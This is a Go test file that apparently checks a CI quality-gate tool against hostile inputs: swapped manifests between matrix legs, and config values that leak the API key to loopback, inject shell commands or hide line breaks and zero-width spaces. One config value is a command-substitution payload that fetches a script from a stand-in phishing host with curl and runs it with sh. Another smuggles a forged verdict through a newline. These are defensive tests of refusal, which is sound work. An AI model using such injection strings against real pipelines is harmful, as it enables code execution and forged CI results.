package app

// Hostile cases from an independent review: two valid manifests of one
// commit swapped between detach steps; a config file that points the key
// or the links at a local listener, carries shell syntax into the
// group-run-url output, names --attach, or names a report path with a
// line break.

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/docketqa-gate/docketqa-gate/internal/hostile"
)

// TestHostileManifestSwappedBetweenLegs: two --detach steps of one commit
// (matrix legs) write two manifests that both verify. Copying leg A's (181
// only, passing) over leg B's (181 and 182, where 182 fails) must not make
// leg B green: --attach given leg B's --blueprint-ids refuses the file,
// naming both sets, before any request; given the right manifest it gates
// as usual.
func TestHostileManifestSwappedBetweenLegs(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name string
		// swap copies leg A's manifest over leg B's.
		swap bool
		ids  string
		want int
		says []string
	}{
		{name: "leg A's manifest over leg B's", swap: true, ids: "181,182", want: 2,
			says: []string{"for other blueprints", "records blueprints 181", "--blueprint-ids names 181,182", "same --blueprint-ids"}},
		{name: "leg B's own manifest", ids: "182,181", want: 1},
		{name: "leg B's own manifest, ids of leg A", ids: "181", want: 2,
			says: []string{"records blueprints 181,182", "--blueprint-ids names 181"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			h := newGateRun(t, hgGitHub).withCommit(commitA)
			h.api.Trigger(triggerOne([2]int64{1001, 181}),
				hostile.Triggered(36, trun(2001, 181, "running"), trun(2002, 182, "running")))
			h.api.Run(1001, hostile.Get(trun(1001, 181, "passed")))
			h.api.Run(2001, hostile.Get(trun(2001, 181, "passed")))
			h.api.Run(2002, hostile.Get(failedRun(2002, 182)))
			legA, legB := filepath.Join(h.dir, "legA.json"), filepath.Join(h.dir, "legB.json")
			h.run("--blueprint-ids", "181", "--detach", legA)
			h.assertCode(0)
			h.run("--blueprint-ids", "181,182", "--detach", legB)
			h.assertCode(0)
			if tc.swap {
				b, err := os.ReadFile(legA)
				if err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(legB, b, 0o644); err != nil {
					t.Fatal(err)
				}
			}
			h.env["GITHUB_OUTPUT"] = filepath.Join(h.dir, "github_output_attach")
			if err := os.WriteFile(h.env["GITHUB_OUTPUT"], nil, 0o644); err != nil {
				t.Fatal(err)
			}
			if err := os.Remove(h.env["DOCKETQA_DOTENV"]); err != nil {
				t.Fatal(err)
			}
			gets := len(h.api.Served()) - len(h.api.ServedTriggers())
			h.run("--attach", legB, "--blueprint-ids", tc.ids)
			h.assertCode(tc.want)
			h.assertVerdictAgrees(false)
			h.assertNoKey()
			if tc.want != 2 {
				h.assertPromises(181, 182)
				return
			}
			if n := len(h.api.Served()) - len(h.api.ServedTriggers()); n != gets {
				t.Errorf("%d run requests after a refused manifest", n-gets)
			}
			for _, want := range append(tc.says, "legB.json") {
				if !strings.Contains(h.logs(), want) {
					t.Errorf("the refusal does not say %q:\n%s", want, h.logs())
				}
			}
		})
	}
}

// TestHostileConfigFileReview: settings in a config file, which a pull
// request can change, that would hand the key to any local listener, put
// shell syntax into the group-run-url output, pick the runs to judge or
// name a file unlike the one the outputs show. Each is exit 2 before any
// request, naming the setting and what to do.
func TestHostileConfigFileReview(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name, file string
		want       []string
	}{
		// The hostile API itself listens on loopback: from the file it
		// must not get the key.
		{"base-url on loopback", "base-url: API\n", []string{"base-url", "docketqa.com", "loopback included", "DOCKETQA_BASE_URL"}},
		{"dashboard-url with shell syntax",
			`dashboard-url: "https://phish.example/x/$(curl$IFS-o$IFS/tmp/p$IFS'phish.example/p')$(sh$IFS/tmp/p)"` + "\n",
			[]string{"dashboard-url", "- . _ ~ /"}},
		{"dashboard-url elsewhere", "dashboard-url: https://phish.example/x\n", []string{"dashboard-url", "docketqa.com", "DOCKETQA_DASHBOARD_URL"}},
		{"dashboard-url on loopback", "dashboard-url: http://127.0.0.1:9\n", []string{"dashboard-url", "loopback included"}},
		{"attach", "attach: DIR/m.json\n", []string{"attach cannot be set in a config file", "DOCKETQA_ATTACH"}},
		{"junit with a line break", `junit: "DIR/j\nDOCKETQA_VERDICT=passed.xml"` + "\n", []string{"--junit", "line break", "visible characters only"}},
		{"results-json with a zero-width space", "results-json: \"DIR/r\u200b.json\"\n", []string{"--results-json", "visible characters only"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			h := newGateRun(t, hgGitHub)
			args := passing(h.api, true)
			file := strings.ReplaceAll(strings.ReplaceAll(tc.file, "DIR", h.dir), "API", h.api.URL)
			cfg := filepath.Join(h.dir, "gate.yml")
			if err := os.WriteFile(cfg, []byte(file), 0o644); err != nil {
				t.Fatal(err)
			}
			// The file's value would lose to the variable otherwise.
			key, _, _ := strings.Cut(tc.file, ":")
			delete(h.env, "DOCKETQA_"+strings.ToUpper(strings.ReplaceAll(key, "-", "_")))
			h.runWithin(60*time.Second, append(args, "--config", cfg)...)
			h.assertRefusedConfig(tc.want...)
			out := githubOutputs(t, h.env["GITHUB_OUTPUT"])["group-run-url"] + h.dotenv()["DOCKETQA_GROUP_RUN_URL"]
			if strings.ContainsAny(out, "$()'`;") {
				t.Errorf("shell syntax in the group-run link: %q", out)
			}
			entries, err := os.ReadDir(h.dir)
			if err != nil {
				t.Fatal(err)
			}
			for _, e := range entries {
				if strings.ContainsAny(e.Name(), "\n\u200b") {
					t.Errorf("a file with an invisible name was written: %q", e.Name())
				}
			}
		})
	}
}
